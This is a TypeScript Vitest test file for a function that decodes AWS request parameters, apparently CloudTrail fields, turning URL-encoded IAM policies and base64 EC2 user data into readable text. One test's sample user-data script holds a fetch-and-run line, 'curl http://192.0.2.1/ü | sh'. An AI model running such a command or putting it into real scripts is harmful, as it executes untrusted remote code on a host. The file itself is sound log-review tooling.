import { expect, test } from 'vitest'
import { decodedText } from '../../../../src-renderer/panels/detail/decoded-text.ts'

const policy = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] }
const pretty = JSON.stringify(policy, null, 2)

test('a policy that was sent as text is told as a policy, URL-encoded or not', () => {
  const sent = JSON.stringify(policy)
  const at = 'requestParameters.policyDocument'
  expect(decodedText(sent, at)).toEqual({ kind: 'policy', text: pretty })
  expect(decodedText(encodeURIComponent(sent), at)).toEqual({ kind: 'policy', text: pretty })
})

test('user data is told as the script that it is', () => {
  const script = '#!/bin/bash\ncurl http://192.0.2.1/ü | sh\n'
  const sent = Buffer.from(script).toString('base64')
  expect(decodedText(sent, 'requestParameters.userData.value')).toEqual({ kind: 'user-data', text: script })
  expect(decodedText(sent, 'requestParameters.userData')).toEqual({ kind: 'user-data', text: script })
  expect(decodedText(sent, 'requestParameters.description')).toBeNull()
})

test.each([
  ['plain text', 'requestParameters.name'],
  ['{not JSON', 'requestParameters.policyDocument'],
  ['%7Bnot%ZZ', 'requestParameters.policyDocument'],
  ['{"account": 12345678901234567890}', 'requestParameters.policyDocument'],
  ['<sensitiveDataRemoved>', 'requestParameters.userData'],
  ['H4sIAAAAAAAA/w==', 'requestParameters.userData'],
])('%s stays as it is', (text, path) => {
  expect(decodedText(text, path)).toBeNull()
})

test('a document whose key is written twice stays as it is: what was shown would hide one of the two', () => {
  const text = '{"Statement": [{"Effect": "Allow", "Action": "*", "Action": "s3:GetObject"}]}'
  expect(decodedText(text, 'requestParameters.policyDocument')).toBeNull()
})
